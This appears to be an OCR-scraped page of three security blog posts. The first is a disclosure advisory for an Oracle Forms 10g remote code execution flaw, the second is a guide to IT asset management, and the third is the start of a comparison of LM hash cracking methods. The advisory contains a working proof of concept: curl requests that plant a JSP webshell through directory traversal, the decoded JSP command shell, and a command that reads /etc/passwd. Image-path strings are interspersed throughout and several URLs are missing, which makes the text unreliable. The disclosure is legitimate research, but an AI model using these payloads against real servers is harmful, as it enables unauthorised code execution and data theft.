Advisory: Oracle Forms 10g Unauthenticated Remote Code Execution (CVE-2014-4278)

Vulnerability Description:

Oracle Forms 10g contains code that does not properly validate user input. This could allow an unauthenticated user to execute arbitrary commands on the remote Oracle Forms server.

Also affected: Oracle E-Business Suite 12.0.6, 12.1.3, 12.2.2, 12.2.3 and 12.2.4 [1]

Vulnerability Details:

When a user launches a new Oracle Forms application, the application first invokes the FormsServlet class to initiate connection. Theapplication then invokes the ListenerServlet class, which launches frmweb process in the background of the remote server.

The normal URL to invoke ListenerServlet looks like:,en;q=0.5&ifcmd=getinfo&ifip=

With the above URL, the normal frmweb process is started with the following parameters:

frmweb server webfile=HTTP-0,0,0,em_mode,

Where ifip parameter is controllable by user input. The frmweb executable, however, acceptsone more parameter:

frmweb server webfile=HTTP-0,0,0,em_mode,,logfile

A log file, named based on the usersupplied log name, is created on the server following the request. The content of the log file contains the log file name:


[Fri May  9 16:46:58 2014 EDT]::Server Start-up Data:
        Server Log Filename: logfile
        Server Hostname: oralin6u5x86
        Server Port: 0
        Server Pool: 1
        Server Process Id: 15638

The Oracle Forms application does not perform adequate input validation on the logfile parameter and allows directory traversal sequences (../). By controlling the ifip parameter passed to the ListenerServlet class, an attacker can now control the logfile location and partially its content as well. Combined with the weak configuration of the remote web server that allows jsp files to be served under https://host:port/forms/java location, attacker could upload a remoteshell and execute arbitrary code on the server.

Technical challenges:

The web server does not seem to accept white spaces or new lines; it also limits the number of characters that could be passed onto the frmweb executable. To execute Operating System command, a custom JSP shell was developed that bypass such restrictions.


Proof-of-concept exploit (tested with Oracle Development Suite, installed on Oracle Linux 5u6):

1. Upload first shell to execute commands (see Other Notes for the decoded version):

curl --request GET',en;q=0.5&ifcmd=getinfo&ifip=,./java/<%25java.lang.Runtime.getRuntime().exec(request.getParameterValues("cmd"))%3b%25>.jsp'

2. After the first step, attacker could execute OS command via the blind shell, located at:<%25java.lang.Runtime.getRuntime().exec(request.getParameterValues(“cmd”))%3b%25>.jsp. To retrieve the command results, they could use the first blind shell to write the second JSP shell, which was based of fuzzdb’s cmd.jsp [3]

curl --request GET ';%25java.lang.Runtime.getRuntime().exec(request.getParameterValues("cmd"))%3b%25>.jsp?cmd=/bin/sh&cmd=-c&cmd=echo%20PCVAcGFnZSBpbXBvcnQ9ImphdmEuaW8uKiIlPjwlU3RyaW5nIG9wPSIiLHM9IiI7dHJ5e1Byb2Nlc3MgcD1SdW50aW1lLmdldFJ1bnRpbWUoKS5leGVjKHJlcXVlc3QuZ2V0UGFyYW1ldGVyKCJjbWQiKSk7QnVmZmVyZWRSZWFkZXIgc0k9bmV3IEJ1ZmZlcmVkUmVhZGVyKG5ldyBJbnB1dFN0cmVhbVJlYWRlcihwLmdldElu-cHV0U3RyZWFtKCkpKTt3aGlsZSgocz1zSS5yZWFkTGluZSgpKSE9bnVsbCl7b3ArPXM7fX1jYXRjaChJT0V4Y2VwdGlvbiBlKXtlLnByaW50U3RhY2tUcmFjZSgpO30lPjwlPW9wJT4%3d|base64%20--decode%3E./forms/java/cmd.jsp'

3. The second shell is now available at To get the content of /etc/passwd on the remote server:

curl --request GET  ''

Recommendations for Oracle:

  • Create a white list of characters that are allowed to appear in the input and accept input composed exclusively of characters in the approved set.
  • Consider removing support for jsp files on the remote web server if it is not required.

Other notes:

URL-decoded version of the first blind JSP shell:


Base64-decoded version of the second JSP shell:

<%@page import="*"%><%String op="",s="";try{Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));BufferedReader sI=new BufferedReader(new InputStreamReader(p.getInputStream()));while((s=sI.readLine())!=null){op+=s;}}catch(IOExceptione){e.printStackTrace();}%><%=op%>

Oracle Forms 10g is also vulnerable to a simple DOS attack: each time the URL,en;q=0.5&ifcmd=getinfo&ifip= is invoked, a frmweb process will be launched in the background. An attacker could exhaust server resources simply by requesting the same URL multiple times. I believe this behavior is fixed in version 11g and onwards with connection pooling

For Oracle Forms 11g and onwards, it is still possible to inject into command arguments of the frmweb executable, through a different vector. However the frmweb executable does not seem to recognize that last argument as the log file location; therefore another vulnerability may be required in order to gain code execution.

Since Oracle has ended its support for Forms 10g [2], the patch for Forms 10g itself was not released in the 2014 October CPU [1]. However, it appeared that Forms 10g component is still being used in E-Business Suite; therefore a patch for it was released [1]. If your organization is still using Oracle Forms 10g, I would recommend backport the fix from E-Business Suite, or upgrade to Forms version 11 or newer.

Report Timeline:

  • May 15, 2014: vulnerability was reported to Oracle.
  • June 18, 2014: vulnerability was confirmed by Oracle
  • October 14, 2014: patch released






IT Asset Management – Where to Start

Not enough emphasis is given to IT asset management. This is one of the first things an organization needs to get under control before they can really implement any security program. Yet few people do it well, if at all. How can you possibly protect an environment if you don’t know what assetsmake up that environment?

Lets quickly define what I mean by “IT asset.” An asset can be any computer, server, network device, application, database, archive of uncompiled code, or whatever that has monetary or perceived value to the business. It’s easy to justify why a piece of hardware or software is an asset, as there is a direct cost involved with procurement, management, and maintenance. You also depreciate your hardware investments in your accounting books, so even those with the checkbooks are acutely aware of hardware costs and value. The not-so-obvious items are web applications and databases. Some disagree that a database is an “asset” but what if that database contains your entire customer list? Isn’t that important to the business? Essentially, if your IT department spends time working on, fixing, installing, or maintaining it as a part of their day-to-day duties, it’s probably an asset.

There are some very basic questions you should be able to answer with a high level of precision about your assets and, if you can’t, IT assets aren’t being managed properly in your organization.

Let me give you an example:

  • How many physical servers do you have?
  • How many laptops does the business own?
  • When were assets purchased?
  • How many servers are physical vs. virtual?
  • What operating systems are your systems running (and what are their patch levels)?
  • What MAC addresses are assigned to each system?
  • Who owns each server? How do you get ahold of them? Who is the second point of contact if they’re not available?
  • How many web applications do you have?
  • How many licenses of Microsoft Office do you have?
  • What is your total annual maintenance commitment for software?• What is the circuit ID of your main Internet connection and what is the best number to call in case of an outage? (You don’t want to have to look through years of bills to try and identify this when your business is down.)

You should be able to answer all of those questions pretty quickly by looking at an IT asset management database. You don’t have to spend millions on the shiniest box with the prettiest light array. You can do an adequate job with a spreadsheet, SharePoint, and/or a home-grown application.

Here are some items you may find useful to track:

  • AssetID
  • Asset type: circuit, server, desktop, laptop, router, switch, web application, standalone application, database, SAN head, NAS head, disk shelf, firewall, bridge, thin WAP, thick WAP, wifi controller, other.
  • Purchased from?
  • Sales contact name
  • Sales contact number
  • Sales contact email
  • Purchase date
  • Purchase order number
  • Purpose
  • Physical location (Minneapolis, 511, rack 12, position 13-15)
  • Unit cost
  • Maintenance cost
  • Deploy date
  • Retirement date / lifecycle information
  • Data classification
  • Server classification
  • Circuit ID
  • Emergency contact name
  • Emergency contact number
  • Emergency contact email
  • Service Level Agreement (SLA)
  • Make
  • Model• PSU (single, dual, n+1, n+2, other)
  • CPU
  • Memory
  • IP addresses associated
  •Hostnames
  • MAC addresses
  • Operating system (very specific)
  • Virtual/physical
  • Physical host ID (another AssetID if virtual)
  • Has virtual guests? (is a virtual host)
  • Owner & contact info
  • Secondary owner & contact info
  • Upstream dependencies
  • Downstream dependencies
  • Hardware change history
  • Software change history
  • Failure history
  • Patch history
  • Notes

This is not exhaustive. It’s just meant to help organizations get an idea of where to start. The more specific and detailed your asset management database, the more sound the rest of your decisions will be when implementing and enforcing specific company policies. I also like a single database with version control for everything, so you only have a single location where you can find the answers you need. How you normalize your data is up to you, but I prefer a single table for everything. Obviously, if you have tens of millions of assets, this may not be reasonable.From here you should also consider defining:• How your organization is going to perform asset discovery;
  • How you plan to capture the data to populate the database;
  • How you plan to keep it up-to-date and verify the integrity of the data;
  • Acceptable use of assets;
  • Your organization’s official IT asset lifecycle for each major type of asset; and
  • Data and server classification policies.

There are a ton of other policies you probably need to define here as well, but this discussion could quickly fill a library.

Get started today! You’ll find that this isn’t an easy project to get started with but, the sooner you get started and the more effort you put into the process, the easier things will get over time. If you need standardsto lean on, have a look at section A.8 of the ISO/IEC 27001:2013 standard, and section 8 of the ISO/IEC 27002:2013 standard. ISO/IEC 27005 in section 8.2.2 helps identify assets your business should include in its risk assessment. PCI DSS version 3.0, requirement 2.4 requires “maintain an inventory of system components that are in scope for PCI.” Cataloging only PCI systems doesn’t seem to fulfill the spirit of the requirement, so I think it’s safe to say PCI requires IT asset management. Additionally requirement 12.2 states, “implement a risk-assessment that Identifies critical assets, threats, and vulnerabilities, and results in a formal risk assessment.” Risk assessments are not possible without first identifying the assets you need to protect. Consider management of all IT assets as a shadow requirement of becoming PCI compliant.


LM Hash Cracking – Rainbow Tables vs GPU Brute Force

Lately, Eric Gruber and I have been speaking about the cracking box that we built at NetSPI. Every time we present, the same question always comes up.

“What about Rainbow Tables?”

Our standard response has been that we don’t need them anymore. I honestly haven’t needed (or heavily used) them for awhile now, as our cracking box has been able to crack the majority of the hashes that we throw at it. This got me thinking about what the actual trade offs are for using our GPUs to crack LM hashes versus using the more traditional method of Rainbow Tables.

Windows Hashes

The LAN Manager (or LM) hashing algorithm is the legacy way of storing password hashes in Windows. The replacement (NTLM) has been around for quite a while, but we still see the LM hashing algorithm being used on both local and domain password hashes.

The LM hash format breaks passwords into two parts. Each part can be up to seven characters long. If the password is seven characters or less, the second part is just a blank LM hash. All of the alphabetical characters are converted to upper case, as the LM hash standard is case insensitive. Case sensitivity is stored in the NTLM hashes.

In the example below, the hash for the password “QBMzftvX” is broken into two parts (QBMZFTV and X). You will also see that all of the cleartext characters of these LM hashes are upper-cased.


For the purpose of this blog, I’ll only be covering the trade offs of using Rainbow Tables for LM hashes. There are NTLM Rainbow Tables, and they can be used with great success, but I won’t be covering the GPU/Rainbow Tables comparison for NTLM in this post.

Rainbow Tables

